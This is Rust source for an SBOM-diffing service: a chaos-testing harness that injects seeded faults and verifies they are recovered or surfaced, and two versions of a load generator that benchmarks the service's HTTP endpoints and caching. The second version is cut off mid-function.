use sbomdiff_registry::Registries;
use sbomdiff_resolver::engine::{resolve, DedupPolicy, RootDep};
use sbomdiff_types::DiagClass;

use crate::loadgen::{build_payloads, run_with_payloads, LoadgenConfig};

/// Chaos-run configuration.
#[derive(Debug, Clone)]
pub struct ChaosConfig {
    /// Number of seeded fault plans to soak.
    pub plans: usize,
    /// Master seed; plan `i` is `FaultPlan::chaos(seed, i)`.
    pub seed: u64,
    /// Requests per loadgen pass (kept small: each plan runs two passes).
    pub requests: usize,
    /// Concurrent loadgen clients.
    pub clients: usize,
    /// Distinct payloads rotated through the loadgen passes.
    pub payloads: usize,
}

impl Default for ChaosConfig {
    fn default() -> Self {
        ChaosConfig {
            plans: 25,
            seed: 42,
            requests: 18,
            clients: 3,
            payloads: 6,
        }
    }
}

/// Outcome of one plan's soak.
#[derive(Debug, Clone)]
pub struct PlanReport {
    /// Plan index within the run.
    pub index: u64,
    /// Number of rules in the plan.
    pub rules: usize,
    /// Fault counters accumulated over the whole plan (both phases).
    pub stats: fault::FaultStats,
    /// Evidence items observed in the direct phase (diagnostics, failures,
    /// pruned transitives, caught panics).
    pub evidence: u64,
    /// Surfaced faults during the direct phase only.
    pub direct_surfaced: u64,
    /// Panics that crossed the worker-pool boundary (must be 0).
    pub worker_panics: u64,
    /// Degraded analyses counted by the two service passes.
    pub degraded: u64,
    /// Violations detected for this plan (empty = clean).
    pub violations: Vec<String>,
}

/// Aggregated chaos-run outcome.
#[derive(Debug, Clone, Default)]
pub struct ChaosReport {
    /// Per-plan outcomes, in plan order.
    pub plans: Vec<PlanReport>,
}

impl ChaosReport {
    /// True when every plan soaked clean.
    pub fn ok(&self) -> bool {
        self.plans.iter().all(|p| p.violations.is_empty())
    }

    /// Renders the human-readable summary.
    pub fn report(&self) -> String {
        let mut out = String::new();
        let mut injected = 0u64;
        let mut surfaced = 0u64;
        let mut recovered = 0u64;
        for plan in &self.plans {
            injected += plan.stats.injected;
            surfaced += plan.stats.surfaced;
            recovered += plan.stats.recovered;
            let verdict = if plan.violations.is_empty() {
                "ok"
            } else {
                "FAIL"
            };
            out.push_str(&format!(
                "plan {:>3}  rules={} injected={:>5} recovered={:>5} surfaced={:>5} evidence={:>4} degraded={:>3} worker_panics={} {}\n",
                plan.index,
                plan.rules,
                plan.stats.injected,
                plan.stats.recovered,
                plan.stats.surfaced,
                plan.evidence,
                plan.degraded,
                plan.worker_panics,
                verdict,
            ));
            for violation in &plan.violations {
                out.push_str(&format!("    violation: {violation}\n"));
            }
        }
        out.push_str(&format!(
            "chaos: {} plans, {injected} injected = {recovered} recovered + {surfaced} surfaced, {}\n",
            self.plans.len(),
            if self.ok() { "all clean" } else { "VIOLATIONS" }
        ));
        out
    }
}

/// Runs the chaos soak.
///
/// # Errors
///
/// Propagates server-start I/O errors from the loadgen passes.
pub fn run(config: &ChaosConfig) -> std::io::Result<ChaosReport> {
    // Injected panics are caught by design, but the default panic hook
    // would still print a backtrace for each one — hundreds of lines of
    // noise per soak. Silence exactly those (the marker identifies them)
    // and restore the previous hook on every exit path.
    let _quiet = QuietInjectedPanics::install();
    // Build everything fault-free ONCE, before any plan is installed:
    // payloads must be clean (faults belong in the serving path, not in
    // payload synthesis) and the registry world is reused across plans.
    let registries = Registries::generate(config.seed);
    let payloads = build_payloads(config.seed, config.payloads.max(1));

    let mut report = ChaosReport::default();
    for index in 0..config.plans as u64 {
        let plan = fault::FaultPlan::chaos(config.seed, index);
        let rules = plan.rules.len();
        let mut violations = Vec::new();

        let guard = fault::install(plan);
        let direct = direct_phase(&registries, index);
        if !direct.stats_after.balanced() {
            violations.push(format!(
                "accounting drift after direct phase: {:?}",
                direct.stats_after
            ));
        }
        if direct.surfaced > 0 && direct.evidence == 0 {
            violations.push(format!(
                "{} faults surfaced in the direct phase but left no evidence",
                direct.surfaced
            ));
        }

        let base = LoadgenConfig {
            requests: config.requests,
            clients: config.clients,
            payloads: config.payloads,
            seed: config.seed,
            keep_alive: true,
            impact_only: false,
            out: None,
            jobs: 1,
        };
        let serial = run_with_payloads(&base, &payloads)?;
        let parallel = run_with_payloads(&LoadgenConfig { jobs: 4, ..base }, &payloads)?;
        for (label, summary) in [("jobs=1", &serial), ("jobs=4", &parallel)] {
            if summary.worker_panics > 0 {
                violations.push(format!(
                    "{label}: {} panics crossed the worker-pool boundary",
                    summary.worker_panics
                ));
            }
            for (&status, &count) in &summary.status_counts {
                let tolerated = (200..300).contains(&status) || status == 503;
                if !tolerated {
                    violations.push(format!("{label}: {count} responses with status {status}"));
                }
            }
            if summary.inconsistent_payloads > 0 {
                violations.push(format!(
                    "{label}: {} payloads answered inconsistently",
                    summary.inconsistent_payloads
                ));
            }
        }
        if serial.response_digest != parallel.response_digest {
            violations.push(format!(
                "response digest differs across worker counts: {:016x} != {:016x}",
                serial.response_digest, parallel.response_digest
            ));
        }

        let stats = fault::stats();
        if !stats.balanced() {
            violations.push(format!("accounting drift at end of plan: {stats:?}"));
        }
        drop(guard);

        report.plans.push(PlanReport {
            index,
            rules,
            stats,
            evidence: direct.evidence,
            direct_surfaced: direct.surfaced,
            worker_panics: serial.worker_panics + parallel.worker_panics,
            degraded: serial.degraded + parallel.degraded,
            violations,
        });
    }
    Ok(report)
}

type PanicHook = dyn Fn(&std::panic::PanicHookInfo<'_>) + Send + Sync;

/// Scoped panic-hook filter: suppresses hook output for panics whose
/// payload carries [`fault::INJECTED_MARKER`], delegates everything else
/// to the previously installed hook, and restores that hook on drop.
struct QuietInjectedPanics {
    prev: std::sync::Arc<PanicHook>,
}

impl QuietInjectedPanics {
    fn install() -> Self {
        let prev: std::sync::Arc<PanicHook> = std::sync::Arc::from(std::panic::take_hook());
        let delegate = std::sync::Arc::clone(&prev);
        std::panic::set_hook(Box::new(move |info| {
            let injected = info
                .payload()
                .downcast_ref::<String>()
                .is_some_and(|s| fault::is_injected(s));
            if !injected {
                delegate(info);
            }
        }));
        QuietInjectedPanics { prev }
    }
}

impl Drop for QuietInjectedPanics {
    fn drop(&mut self) {
        let prev = std::sync::Arc::clone(&self.prev);
        std::panic::set_hook(Box::new(move |info| prev(info)));
    }
}

struct DirectOutcome {
    surfaced: u64,
    evidence: u64,
    stats_after: fault::FaultStats,
}

/// Repositories spanning several parser families, varied per plan index so
/// different plans exercise different `(site, key)` pairs.
fn chaos_repo(index: u64) -> RepoFs {
    let mut repo = RepoFs::new(format!("chaos-{index}"));
    repo.add_text(
        format!("plan{index}/requirements.txt"),
        "numpy==1.19.2\nrequests>=2.8.1\nflask\n",
    );
    repo.add_text(
        format!("plan{index}/package.json"),
        "{\n  \"name\": \"chaos\",\n  \"dependencies\": {\n    \"react\": \"^17.0.0\",\n    \"lodash\": \"4.17.21\"\n  }\n}\n",
    );
    repo.add_text(
        format!("plan{index}/go.mod"),
        "module example.com/chaos\n\ngo 1.21\n\nrequire (\n\tgithub.com/stretchr/testify v1.8.0\n)\n",
    );
    repo.add_text(
        format!("plan{index}/Cargo.toml"),
        "[package]\nname = \"chaos\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1.0\"\nrand = \"0.8\"\n",
    );
    repo
}

fn direct_phase(registries: &Registries, index: u64) -> DirectOutcome {
    let before = fault::stats();
    let repo = chaos_repo(index);
    let tools = sbomdiff_generators::studied_tools(registries, 0.0);
    let mut evidence = 0u64;
    for tool in &tools {
        match catch_unwind(AssertUnwindSafe(|| tool.generate(&repo))) {
            Ok(sbom) => {
                evidence += sbom
                    .diagnostics()
                    .iter()
                    .filter(|d| {
                        // Everything a surfaced fault can degrade into:
                        // marker-carrying messages, registry failures, file
                        // read errors, and unpinned declarations dropped
                        // because their registry lookup answered nothing.
                        fault::is_injected(&d.message)
                            || matches!(
                                d.class,
                                DiagClass::RegistryFailure
                                    | DiagClass::IoError
                                    | DiagClass::UnpinnedDropped
                            )
                    })
                    .count() as u64;
            }
            // An injected panic that a catch boundary absorbed is fully
            // visible: it *is* the evidence.
            Err(_) => evidence += 1,
        }
    }
    // Direct resolver walk over the reliable Python universe: resolver
    // faults surface as root failures or counted transitive prunes.
    let uni = registries.for_ecosystem(sbomdiff_types::Ecosystem::Python);
    let roots = vec![
        RootDep::new("numpy", None),
        RootDep::new("requests", None),
        RootDep::new("flask", None),
        RootDep::new(format!("chaos-ghost-{index}"), None),
    ];
    let resolution = resolve(uni, &roots, DedupPolicy::HighestWins, true);
    // The ghost root fails even fault-free; only extra failures and prunes
    // count as fault evidence.
    evidence += resolution.failures.len().saturating_sub(1) as u64;
    evidence += resolution.pruned_transitives as u64;

    let stats_after = fault::stats();
    DirectOutcome {
        surfaced: stats_after.surfaced - before.surfaced,
        evidence,
        stats_after,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn chaos_repo_is_deterministic_and_multi_ecosystem() {
        let a = chaos_repo(3);
        let b = chaos_repo(3);
        assert_eq!(a.text_files(), b.text_files());
        assert_eq!(a.metadata_files().len(), 4);
        assert_ne!(chaos_repo(4).text_files(), a.text_files());
    }

    #[test]
    fn report_renders_and_aggregates() {
        let mut report = ChaosReport::default();
        report.plans.push(PlanReport {
            index: 0,
            rules: 2,
            stats: fault::FaultStats {
                injected: 10,
                recovered: 6,
                surfaced: 4,
            },
            evidence: 4,
            direct_surfaced: 4,
            worker_panics: 0,
            degraded: 3,
            violations: Vec::new(),
        });
        assert!(report.ok());
        let text = report.report();
        assert!(text.contains("10 injected = 6 recovered + 4 surfaced"));
        assert!(text.contains("all clean"));
        report.plans[0].violations.push("boom".into());
        assert!(!report.ok());
        assert!(report.report().contains("violation: boom"));
    }
}

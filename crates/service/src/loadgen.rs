//! Built-in load generator: N concurrent synthetic clients against an
//! in-process server.
//!
//! Payloads come from the calibrated corpus generator, so the traffic
//! exercises exactly the parsing/diffing machinery the paper's batch
//! experiments do — a small payload set is deliberately reused across many
//! requests to exercise the response cache. Client fan-out rides on
//! `sbomdiff_parallel::par_map`, the same worker-pool primitive the batch
//! pipeline uses.
//!
//! The summary checks the service-level guarantees: zero 5xx, per-payload
//! byte-identical responses (the response digest is independent of
//! `--jobs`), and a nonzero cache hit ratio.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Instant;

use sbomdiff_corpus::{Corpus, CorpusConfig};
use sbomdiff_registry::Registries;
use sbomdiff_sbomfmt::SbomFormat;
use sbomdiff_textformats::{json, Value};

use crate::server::{ServeConfig, Server};

/// Load-generation configuration.
#[derive(Debug, Clone)]
pub struct LoadgenConfig {
    /// Total requests to send.
    pub requests: usize,
    /// Concurrent clients.
    pub clients: usize,
    /// Distinct payloads to rotate through (smaller → more cache hits).
    pub payloads: usize,
    /// Server worker threads (0 → default policy).
    pub jobs: usize,
    /// Seed for corpus payload synthesis and the server default seed.
    pub seed: u64,
    /// Where to write the benchmark JSON (None → don't write).
    pub out: Option<String>,
}

impl Default for LoadgenConfig {
    fn default() -> Self {
        LoadgenConfig {
            requests: 1000,
            clients: 4,
            payloads: 12,
            jobs: 0,
            seed: 42,
            out: None,
        }
    }
}

/// One client-side observation.
struct Sample {
    payload_idx: usize,
    status: u16,
    latency_micros: u64,
    body_hash: u64,
}

/// Aggregated loadgen results.
#[derive(Debug, Clone)]
pub struct LoadgenSummary {
    /// Requests sent.
    pub requests: usize,
    /// Concurrent clients used.
    pub clients: usize,
    /// Responses by status code.
    pub status_counts: BTreeMap<u16, usize>,
    /// Wall-clock duration of the whole run, in milliseconds.
    pub wall_ms: f64,
    /// Requests per second.
    pub throughput_rps: f64,
    /// Latency percentiles in microseconds (p50, p90, p99, max).
    pub latency_us: (u64, u64, u64, u64),
    /// Server-side response-cache hits / misses scraped from `/metrics`.
    pub cache_hits: u64,
    /// See [`LoadgenSummary::cache_hits`].
    pub cache_misses: u64,
    /// Order-independent digest over per-payload response bodies; equal
    /// digests across runs mean byte-identical responses.
    pub response_digest: u64,
    /// Payloads whose responses were *not* byte-identical across requests.
    pub inconsistent_payloads: usize,
    /// `sbomdiff_worker_panics_total` scraped from `/metrics` — panics
    /// caught at the worker-pool boundary (must stay 0, even under chaos).
    pub worker_panics: u64,
    /// `sbomdiff_degraded_total` scraped from `/metrics` — analyses that
    /// completed in degraded mode.
    pub degraded: u64,
}

impl LoadgenSummary {
    /// Total non-2xx responses.
    pub fn non_2xx(&self) -> usize {
        self.status_counts
            .iter()
            .filter(|(status, _)| !(200..300).contains(*status))
            .map(|(_, n)| n)
            .sum()
    }

    /// Total 5xx responses.
    pub fn count_5xx(&self) -> usize {
        self.status_counts
            .iter()
            .filter(|(status, _)| **status >= 500)
            .map(|(_, n)| n)
            .sum()
    }

    /// The acceptance gate: every response 2xx, byte-identical bodies per
    /// payload, and a warm cache.
    pub fn ok(&self) -> bool {
        self.non_2xx() == 0 && self.inconsistent_payloads == 0 && self.cache_hits > 0
    }

    /// Renders the human-readable report table.
    pub fn report(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "loadgen: {} requests, {} clients, {:.1} ms wall\n",
            self.requests, self.clients, self.wall_ms
        ));
        out.push_str(&format!(
            "  throughput   {:.0} req/s\n",
            self.throughput_rps
        ));
        let (p50, p90, p99, max) = self.latency_us;
        out.push_str(&format!(
            "  latency (us) p50={p50} p90={p90} p99={p99} max={max}\n"
        ));
        for (status, count) in &self.status_counts {
            out.push_str(&format!("  status {status}  {count}\n"));
        }
        let lookups = self.cache_hits + self.cache_misses;
        let ratio = if lookups == 0 {
            0.0
        } else {
            self.cache_hits as f64 / lookups as f64
        };
        out.push_str(&format!(
            "  cache        {} hits / {} misses ({:.1}% hit ratio)\n",
            self.cache_hits,
            self.cache_misses,
            ratio * 100.0
        ));
        out.push_str(&format!(
            "  responses    digest={:016x} inconsistent_payloads={}\n",
            self.response_digest, self.inconsistent_payloads
        ));
        out
    }

    /// Serializes the benchmark artifact (`BENCH_service.json`).
    pub fn to_json(&self, jobs: usize, payloads: usize) -> String {
        let mut doc = Value::object();
        doc.set("bench", Value::from("sbomdiff-serve loadgen"));
        doc.set("requests", Value::from(self.requests as i64));
        doc.set("clients", Value::from(self.clients as i64));
        doc.set("jobs", Value::from(jobs as i64));
        doc.set("payloads", Value::from(payloads as i64));
        doc.set("wall_ms", Value::from(self.wall_ms));
        doc.set("throughput_rps", Value::from(self.throughput_rps));
        let (p50, p90, p99, max) = self.latency_us;
        let mut latency = Value::object();
        latency.set("p50_us", Value::from(p50 as i64));
        latency.set("p90_us", Value::from(p90 as i64));
        latency.set("p99_us", Value::from(p99 as i64));
        latency.set("max_us", Value::from(max as i64));
        doc.set("latency", latency);
        let mut statuses = Value::object();
        for (status, count) in &self.status_counts {
            statuses.set(status.to_string(), Value::from(*count as i64));
        }
        doc.set("status_counts", statuses);
        doc.set("non_2xx", Value::from(self.non_2xx() as i64));
        doc.set("cache_hits", Value::from(self.cache_hits as i64));
        doc.set("cache_misses", Value::from(self.cache_misses as i64));
        doc.set(
            "response_digest",
            Value::from(format!("{:016x}", self.response_digest)),
        );
        let mut body = json::to_string_pretty(&doc);
        body.push('\n');
        body
    }
}

/// Runs the load generator against a fresh in-process server.
///
/// # Errors
///
/// Propagates server-start and benchmark-file I/O errors.
pub fn run(config: &LoadgenConfig) -> std::io::Result<LoadgenSummary> {
    let payloads = build_payloads(config.seed, config.payloads.max(1));
    run_with_payloads(config, &payloads)
}

/// Runs the load generator with a caller-supplied payload set against a
/// fresh in-process server. The chaos harness uses this to build payloads
/// once, cleanly, before any fault plan is installed.
///
/// # Errors
///
/// Propagates server-start and benchmark-file I/O errors.
pub fn run_with_payloads(
    config: &LoadgenConfig,
    payloads: &[(String, String)],
) -> std::io::Result<LoadgenSummary> {
    let mut server = Server::start(ServeConfig {
        jobs: config.jobs,
        seed: config.seed,
        ..ServeConfig::default()
    })?;
    let addr = server.addr();

    let started = Instant::now();
    let clients: Vec<usize> = (0..config.clients.max(1)).collect();
    let samples: Vec<Vec<Sample>> = sbomdiff_parallel::par_map(clients.len(), &clients, |_, &c| {
        run_client(addr, c, clients.len(), config.requests, payloads)
    });
    let wall = started.elapsed();

    // Scrape cache counters through the public endpoint so the loadgen
    // exercises /metrics too.
    let (_, metrics_text) = http_request(addr, "GET", "/metrics", "").unwrap_or((0, String::new()));
    let cache_hits = scrape(&metrics_text, "sbomdiff_cache_hits_total");
    let cache_misses = scrape(&metrics_text, "sbomdiff_cache_misses_total");
    let worker_panics = scrape(&metrics_text, "sbomdiff_worker_panics_total");
    let degraded = scrape(&metrics_text, "sbomdiff_degraded_total");
    server.shutdown();

    let mut status_counts: BTreeMap<u16, usize> = BTreeMap::new();
    let mut latencies: Vec<u64> = Vec::new();
    let mut per_payload: BTreeMap<usize, u64> = BTreeMap::new();
    let mut inconsistent: std::collections::BTreeSet<usize> = Default::default();
    for sample in samples.iter().flatten() {
        *status_counts.entry(sample.status).or_default() += 1;
        latencies.push(sample.latency_micros);
        match per_payload.get(&sample.payload_idx) {
            None => {
                per_payload.insert(sample.payload_idx, sample.body_hash);
            }
            Some(&seen) if seen != sample.body_hash => {
                inconsistent.insert(sample.payload_idx);
            }
            Some(_) => {}
        }
    }
    latencies.sort_unstable();
    let pct = |p: f64| -> u64 {
        if latencies.is_empty() {
            return 0;
        }
        let idx = ((latencies.len() as f64 - 1.0) * p).round() as usize;
        latencies[idx.min(latencies.len() - 1)]
    };
    // Order-independent digest: XOR of per-payload (index, body hash)
    // mixes — identical for any client/worker interleaving.
    let response_digest = per_payload.iter().fold(0u64, |acc, (&idx, &hash)| {
        acc ^ hash
            .wrapping_add(idx as u64)
            .wrapping_mul(0x9e37_79b9_7f4a_7c15)
    });

    let total: usize = status_counts.values().sum();
    let summary = LoadgenSummary {
        requests: total,
        clients: clients.len(),
        status_counts,
        wall_ms: wall.as_secs_f64() * 1e3,
        throughput_rps: if wall.as_secs_f64() > 0.0 {
            total as f64 / wall.as_secs_f64()
        } else {
            0.0
        },
        latency_us: (
            pct(0.50),
            pct(0.90),
            pct(0.99),
            *latencies.last().unwrap_or(&0),
        ),
        cache_hits,
        cache_misses,
        response_digest,
        inconsistent_payloads: inconsistent.len(),
        worker_panics,
        degraded,
    };
    if let Some(path) = &config.out {
        std::fs::write(path, summary.to_json(config.jobs, config.payloads))?;
    }
    Ok(summary)
}

/// Builds the rotating payload set: analyze requests over synthetic corpus
/// repositories, plus diff and impact requests derived from their SBOMs.
pub fn build_payloads(seed: u64, count: usize) -> Vec<(String, String)> {
    let registries = Registries::generate(seed);
    let corpus = Corpus::build_with_jobs(
        &registries,
        &CorpusConfig {
            repos_per_language: count.div_ceil(9).max(1),
            seed,
        },
        1,
    );
    let repos: Vec<_> = corpus.iter().flat_map(|(_, repos)| repos).collect();
    let tools = sbomdiff_generators::studied_tools(&registries, 0.0);
    let mut payloads = Vec::with_capacity(count);
    for i in 0..count {
        let repo = repos[i % repos.len()];
        let endpoint = i % 3;
        match endpoint {
            0 => {
                let mut files = Value::object();
                for (path, text) in repo.text_files() {
                    files.set(path, Value::from(text));
                }
                let mut doc = Value::object();
                doc.set("name", Value::from(repo.name()));
                doc.set("seed", Value::from(seed as i64));
                doc.set("files", files);
                payloads.push(("/v1/analyze".to_string(), json::to_string(&doc)));
            }
            1 => {
                use sbomdiff_generators::SbomGenerator;
                let a = tools[0].generate(repo);
                let b = tools[3].generate(repo);
                let mut doc = Value::object();
                doc.set("a", Value::from(SbomFormat::CycloneDx.serialize(&a)));
                doc.set("b", Value::from(SbomFormat::Spdx.serialize(&b)));
                payloads.push(("/v1/diff".to_string(), json::to_string(&doc)));
            }
            _ => {
                use sbomdiff_generators::SbomGenerator;
                let sbom = tools[1].generate(repo);
                let mut doc = Value::object();
                doc.set("sbom", Value::from(SbomFormat::CycloneDx.serialize(&sbom)));
                doc.set("seed", Value::from(seed as i64));
                doc.set("advisory_seed", Value::from(1i64));
                doc.set("vulnerable_share", Value::from(0.3));
                payloads.push(("/v1/impact".to_string(), json::to_string(&doc)));
            }
        }
    }
    payloads
}

fn run_client(
    addr: SocketAddr,
    client: usize,
    clients: usize,
    total_requests: usize,
    payloads: &[(String, String)],
) -> Vec<Sample> {
    let mut samples = Vec::new();
    let mut request_no = client;
    while request_no < total_requests {
        let payload_idx = request_no % payloads.len();
        let (path, body) = &payloads[payload_idx];
        let started = Instant::now();
        // A transport failure is counted as status 0.
        let (status, response_body) = http_request(addr, "POST", path, body).unwrap_or_default();
        samples.push(Sample {
            payload_idx,
            status,
            latency_micros: started.elapsed().as_micros() as u64,
            body_hash: fnv64(response_body.as_bytes()),
        });
        request_no += clients;
    }
    samples
}

/// One HTTP request over a fresh connection; returns (status, body).
pub fn http_request(
    addr: SocketAddr,
    method: &str,
    path: &str,
    body: &str,
) -> std::io::Result<(u16, String)> {
    let mut stream = TcpStream::connect(addr)?;
    stream.set_read_timeout(Some(std::time::Duration::from_secs(30)))?;
    let raw = format!(
        "{method} {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    stream.write_all(raw.as_bytes())?;
    let mut text = String::new();
    stream.read_to_string(&mut text)?;
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = text
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_string())
        .unwrap_or_default();
    Ok((status, body))
}

fn scrape(metrics_text: &str, name: &str) -> u64 {
    metrics_text
        .lines()
        .find(|line| line.starts_with(name) && !line.starts_with('#'))
        .and_then(|line| line.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0)
}

fn fnv64(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h = (h ^ b as u64).wrapping_mul(0x100_0000_01b3);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payload_set_is_deterministic_and_mixed() {
        let a = build_payloads(7, 9);
        let b = build_payloads(7, 9);
        assert_eq!(a, b);
        assert_eq!(a.len(), 9);
        let endpoints: std::collections::BTreeSet<_> =
            a.iter().map(|(path, _)| path.as_str()).collect();
        assert!(endpoints.contains("/v1/analyze"));
        assert!(endpoints.contains("/v1/diff"));
        assert!(endpoints.contains("/v1/impact"));
        // Every payload body is valid JSON.
        for (_, body) in &a {
            assert!(json::parse(body).is_ok());
        }
    }

    #[test]
    fn scrape_parses_counter_lines() {
        let text = "# TYPE x counter\nsbomdiff_cache_hits_total 42\nother 1\n";
        assert_eq!(scrape(text, "sbomdiff_cache_hits_total"), 42);
        assert_eq!(scrape(text, "missing"), 0);
    }

    #[test]
    fn smoke_run_is_clean() {
        let summary = run(&LoadgenConfig {
            requests: 36,
            clients: 4,
            payloads: 6,
            jobs: 2,
            seed: 11,
            out: None,
        })
        .expect("loadgen runs");
        assert_eq!(summary.requests, 36);
        assert_eq!(summary.non_2xx(), 0, "{:?}", summary.status_counts);
        assert_eq!(summary.inconsistent_payloads, 0);
        assert!(summary.cache_hits > 0);
        assert!(summary.ok(), "{}", summary.report());
    }

    #[test]
    fn digest_is_stable_across_jobs() {
        let base = LoadgenConfig {
            requests: 24,
            clients: 3,
            payloads: 6,
            seed: 13,
            out: None,
            jobs: 1,
        };
        let a = run(&base).unwrap();
        let b = run(&LoadgenConfig { jobs: 4, ..base }).unwrap();
        assert_eq!(a.response_digest, b.response_digest);
        assert_eq!(a.inconsistent_payloads + b.inconsistent_payloads, 0);
    }
}

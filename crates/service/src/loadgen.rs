//! Built-in load generator: N concurrent synthetic clients against an
//! in-process server.
//!
//! Payloads come from the calibrated corpus generator, so the traffic
//! exercises exactly the parsing/diffing machinery the paper's batch
//! experiments do — a small payload set is deliberately reused across many
//! requests to exercise the response cache. Client fan-out rides on
//! `sbomdiff_parallel::par_map`, the same worker-pool primitive the batch
//! pipeline uses.
//!
//! Clients speak HTTP/1.1 keep-alive by default (one connection per client
//! for the whole run, responses framed by `Content-Length`, headers matched
//! case-insensitively per RFC 9112); `--no-keep-alive` falls back to a
//! fresh connection per request, which is also the sweep's worst-case
//! column. [`run_sweep`] drives a clients × payloads × keep-alive grid and
//! records the latency-histogram trajectory in `BENCH_service.json`.
//!
//! The summary checks the service-level guarantees: zero 5xx, per-payload
//! byte-identical responses (the response digest is independent of
//! `--jobs`), and a nonzero cache hit ratio.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Instant;

use sbomdiff_corpus::{Corpus, CorpusConfig};
use sbomdiff_registry::Registries;
use sbomdiff_sbomfmt::SbomFormat;
use sbomdiff_textformats::{json, Value};

use crate::server::{ServeConfig, Server};

/// Throughput of the pre-reactor thread-per-request server on the same
/// bench cell (requests=1000, clients=4, payloads=12, seed=42); the
/// reactor's speedup in `BENCH_service.json` is measured against this.
pub const BASELINE_RPS: f64 = 1463.1;

/// Latency histogram bucket upper bounds, in microseconds; one overflow
/// bucket follows.
pub const HIST_BOUNDS_US: [u64; 10] = [
    100, 250, 500, 1_000, 2_500, 5_000, 10_000, 25_000, 50_000, 100_000,
];

/// Load-generation configuration.
#[derive(Debug, Clone)]
pub struct LoadgenConfig {
    /// Total requests to send.
    pub requests: usize,
    /// Concurrent clients.
    pub clients: usize,
    /// Distinct payloads to rotate through (smaller → more cache hits).
    pub payloads: usize,
    /// Server worker threads (0 → default policy).
    pub jobs: usize,
    /// Seed for corpus payload synthesis and the server default seed.
    pub seed: u64,
    /// Reuse one connection per client (HTTP/1.1 keep-alive); `false`
    /// reconnects per request.
    pub keep_alive: bool,
    /// Drive batched `POST /v1/impact` payloads only (one tool-profile
    /// batch per payload) instead of the mixed analyze/diff/impact set.
    pub impact_only: bool,
    /// Where to write the benchmark JSON (None → don't write).
    pub out: Option<String>,
}

impl Default for LoadgenConfig {
    fn default() -> Self {
        LoadgenConfig {
            requests: 1000,
            clients: 4,
            payloads: 12,
            jobs: 0,
            seed: 42,
            keep_alive: true,
            impact_only: false,
            out: None,
        }
    }
}

/// One client-side observation.
struct Sample {
    payload_idx: usize,
    status: u16,
    latency_micros: u64,
    body_hash: u64,
}

/// Aggregated loadgen results.
#[derive(Debug, Clone)]
pub struct LoadgenSummary {
    /// Requests sent.
    pub requests: usize,
    /// Concurrent clients used.
    pub clients: usize,
    /// Whether clients reused connections.
    pub keep_alive: bool,
    /// Responses by status code.
    pub status_counts: BTreeMap<u16, usize>,
    /// Wall-clock duration of the whole run, in milliseconds.
    pub wall_ms: f64,
    /// Requests per second.
    pub throughput_rps: f64,
    /// Latency percentiles in microseconds (p50, p90, p99, max).
    pub latency_us: (u64, u64, u64, u64),
    /// Latency histogram: per-bucket counts for [`HIST_BOUNDS_US`] plus a
    /// final overflow bucket.
    pub histogram: Vec<usize>,
    /// Server-side response-cache hits / misses scraped from `/metrics`.
    pub cache_hits: u64,
    /// See [`LoadgenSummary::cache_hits`].
    pub cache_misses: u64,
    /// Order-independent digest over per-payload response bodies; equal
    /// digests across runs mean byte-identical responses.
    pub response_digest: u64,
    /// Payloads whose responses were *not* byte-identical across requests.
    pub inconsistent_payloads: usize,
    /// `sbomdiff_worker_panics_total` scraped from `/metrics` — panics
    /// caught at the worker-pool boundary (must stay 0, even under chaos).
    pub worker_panics: u64,
    /// `sbomdiff_degraded_total` scraped from `/metrics` — analyses that
    /// completed in degraded mode.
    pub degraded: u64,
    /// Sum of `sbomdiff_advisories_matched_total{severity}` scraped from
    /// `/metrics` — advisories raised by `/v1/impact` scans.
    pub advisories_matched: u64,
}

impl LoadgenSummary {
    /// Total non-2xx responses.
    pub fn non_2xx(&self) -> usize {
        self.status_counts
            .iter()
            .filter(|(status, _)| !(200..300).contains(*status))
            .map(|(_, n)| n)
            .sum()
    }

    /// Total 5xx responses.
    pub fn count_5xx(&self) -> usize {
        self.status_counts
            .iter()
            .filter(|(status, _)| **status >= 500)
            .map(|(_, n)| n)
            .sum()
    }

    /// The acceptance gate: every response 2xx, byte-identical bodies per
    /// payload, and a warm cache.
    pub fn ok(&self) -> bool {
        self.non_2xx() == 0 && self.inconsistent_payloads == 0 && self.cache_hits > 0
    }

    /// Renders the human-readable report table.
    pub fn report(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "loadgen: {} requests, {} clients, keep-alive={}, {:.1} ms wall\n",
            self.requests, self.clients, self.keep_alive, self.wall_ms
        ));
        out.push_str(&format!(
            "  throughput   {:.0} req/s ({:.1}x the pre-reactor baseline)\n",
            self.throughput_rps,
            self.throughput_rps / BASELINE_RPS
        ));
        let (p50, p90, p99, max) = self.latency_us;
        out.push_str(&format!(
            "  latency (us) p50={p50} p90={p90} p99={p99} max={max}\n"
        ));
        for (status, count) in &self.status_counts {
            out.push_str(&format!("  status {status}  {count}\n"));
        }
        let lookups = self.cache_hits + self.cache_misses;
        let ratio = if lookups == 0 {
            0.0
        } else {
            self.cache_hits as f64 / lookups as f64
        };
        out.push_str(&format!(
            "  cache        {} hits / {} misses ({:.1}% hit ratio)\n",
            self.cache_hits,
            self.cache_misses,
            ratio * 100.0
        ));
        out.push_str(&format!(
            "  responses    digest={:016x} inconsistent_payloads={}\n",
            self.response_digest, self.inconsistent_payloads
        ));
        out.push_str(&format!(
            "  advisories   {} raised (per-severity breakdown on /metrics)\n",
            self.advisories_matched
        ));
        out
    }

    /// The summary as a JSON object (shared by the single-run and sweep
    /// benchmark artifacts).
    fn json_doc(&self, jobs: usize, payloads: usize) -> Value {
        let mut doc = Value::object();
        doc.set("bench", Value::from("sbomdiff-serve loadgen"));
        doc.set("requests", Value::from(self.requests as i64));
        doc.set("clients", Value::from(self.clients as i64));
        doc.set("jobs", Value::from(jobs as i64));
        doc.set("payloads", Value::from(payloads as i64));
